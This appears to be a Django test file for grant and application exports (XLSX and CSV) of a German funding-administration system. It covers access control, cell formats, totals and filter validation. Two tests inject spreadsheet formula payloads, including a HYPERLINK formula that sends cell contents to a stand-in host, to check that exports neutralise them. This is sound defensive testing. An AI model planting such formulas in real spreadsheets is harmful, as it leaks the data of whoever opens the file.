import csv
import datetime
import io
import zipfile
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from applicants.models import Municipality
from tests.reports.test_figures import figures_for


def _get(client, user, kind, fmt, **query):
    client.force_login(user)
    return client.get(reverse("reports:export", args=[kind, fmt]), query)


def _workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _records(sheet):
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_it_is_hidden_from_applicants(client, alice, known):
    assert _get(client, alice, "zuwendungen", "xlsx").status_code == 404
    assert _get(client, alice, "antraege", "csv").status_code == 404


def test_it_refuses_unknown_exports(client, leitung):
    assert _get(client, leitung, "geheim", "xlsx").status_code == 404
    assert _get(client, leitung, "antraege", "pdf").status_code == 404


def test_it_lists_the_grants_for_the_ministry(client, leitung, known):
    response = _get(client, leitung, "zuwendungen", "xlsx", call=known.call.pk)
    assert response["Content-Disposition"].startswith('attachment; filename="zuwendungen-')
    grants = _records(_workbook(response)["Zuwendungen"])
    assert [g["Aktenzeichen"] for g in grants] == ["MSO-2024-a1", "MSO-2024-a2", "MSO-2024-a3"]
    a3 = grants[2]
    assert (a3["Zuwendungsempfänger"], a3["Kommune"], a3["Zweck"], a3["Förderlinie"]) == (
        "Verein Drei", "Rheine", "a3", "Projekt")
    assert (a3["Bewilligt"], a3["Zurückgefordert"], a3["Zuwendung nach Rückforderung"], a3["Ausgezahlt"]) == (
        6000, 1500, 4500, 6000)
    assert a3["Förderzeitraum von"] == datetime.datetime(2027, 3, 1)
    assert a3["Bewilligt am"] == datetime.datetime(2024, 3, 16)


def test_it_writes_real_euro_and_date_cells(client, leitung, known):
    sheet = _workbook(_get(client, leitung, "zuwendungen", "xlsx"))["Zuwendungen"]
    header, first = sheet[1], sheet[2]
    assert header[0].font.bold
    money, day = first[6], first[10]
    assert money.data_type == "n" and money.number_format == '#,##0.00 "€"'
    assert day.is_date and day.number_format == "DD.MM.YYYY"


def test_it_reconciles_the_grants_list_with_the_dashboard(client, leitung, known):
    rheine = Municipality.objects.get(name="Rheine")
    query = {"municipality": rheine.pk, "line": known.project.pk}
    figures = figures_for(f"municipality={rheine.pk}&line={known.project.pk}")
    workbook = _workbook(_get(client, leitung, "zuwendungen", "xlsx", **query))
    grants = _records(workbook["Zuwendungen"])
    assert sum(Decimal(str(g["Zuwendung nach Rückforderung"])) for g in grants) == figures.totals.net
    assert sum(Decimal(str(g["Ausgezahlt"])) for g in grants) == figures.totals.paid
    overview = {row[0]: row[1] for row in workbook["Übersicht"].iter_rows(values_only=True) if row and row[0]}
    for label, value, _kind in figures.summary():
        assert overview[label] == (float(value) if isinstance(value, Decimal) else value), label
    assert overview["Kommune (Sitz des Vereins)"] == "Rheine"


def test_it_writes_all_municipalities_into_the_overview(client, leitung, known):
    workbook = _workbook(_get(client, leitung, "antraege", "xlsx", call=known.empty_call.pk))
    labels = [row[0] for row in workbook["Übersicht"].iter_rows(values_only=True)]
    for name in Municipality.objects.values_list("name", flat=True):
        assert name in labels
    assert _records(workbook["Anträge"]) == []


def test_it_lists_all_applications_with_the_filter(client, leitung, known):
    applications = _records(_workbook(_get(client, leitung, "antraege", "xlsx", call=known.call.pk))["Anträge"])
    assert len(applications) == 7
    by_title = {a["Titel"]: a for a in applications}
    assert by_title["a6"]["Status"] == "Entwurf" and by_title["a6"]["Aktenzeichen"] is None
    assert by_title["a2"]["Art des Vereins"] == "Moscheeverein"
    assert by_title["a2"]["Eingegangen am"] == datetime.datetime(2024, 2, 1)


def test_it_streams_csv_in_utf8_with_german_headers(client, leitung, known):
    response = _get(client, leitung, "zuwendungen", "csv", call=known.call.pk)
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeffAktenzeichen,Zuwendungsempfänger,Kommune,Zweck")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert [row["Aktenzeichen"] for row in rows] == ["MSO-2024-a1", "MSO-2024-a2", "MSO-2024-a3"]
    assert rows[2]["Zuwendung nach Rückforderung"] == "4500.00"
    assert rows[2]["Bewilligt am"] == "2024-03-16"
    assert sum(Decimal(row["Bewilligt"]) for row in rows) == figures_for(f"call={known.call.pk}").totals.approved


def test_it_rejects_an_invalid_filter(client, leitung, known):
    response = _get(client, leitung, "zuwendungen", "csv", date_from="2024-13-01")
    assert response.status_code == 400


FORMULA = '=HYPERLINK("http://x"&C2,"y")'
RISKY_TITLES = {"a1": "@SUM(A1:A9)", "a2": "+49 5971 1234", "a3": "-2+3", "a4": "\tTab", "a5": "\rZeile"}


def _inject(known):
    from applicants.models import Organisation
    from funding.models import Application

    Organisation.objects.filter(pk__in=[org.pk for org in known.orgs]).update(name=FORMULA)
    for title, text in RISKY_TITLES.items():
        Application.objects.filter(title=title).update(title=text)


def test_it_writes_formula_like_text_as_text_cells_in_xlsx(client, leitung, known):
    _inject(known)
    response = _get(client, leitung, "antraege", "xlsx", call=known.call.pk)
    data = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [cell for cell in cells if cell.value == FORMULA]
    assert len(names) == 7 and all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(RISKY_TITLES.values()) <= texts
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    records = _records(workbook["Anträge"])
    a1 = next(r for r in records if r["Titel"] == RISKY_TITLES["a1"])
    row = next(row for row in workbook["Anträge"].iter_rows(min_row=2) if row[1].value == RISKY_TITLES["a1"])
    assert a1["Beantragt"] == 5000 and row[10].data_type == "n" and row[8].is_date


def test_it_neutralises_formula_like_text_in_csv(client, leitung, known):
    _inject(known)
    text = b"".join(_get(client, leitung, "antraege", "csv", call=known.call.pk).streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))

    assert {row["Organisation"] for row in rows} == {"'" + FORMULA}
    titles = {row["Titel"] for row in rows}
    assert {"'" + value for value in RISKY_TITLES.values()} <= titles
    cells = [value for row in rows for value in row.values()]
    assert not [value for value in cells if value[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [value for value in cells if value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit()]
    a2 = next(row for row in rows if row["Aktenzeichen"] == "MSO-2024-a2")
    assert a2["Beantragt"] == "10000.00" and a2["Eingegangen am"] == "2024-02-01"
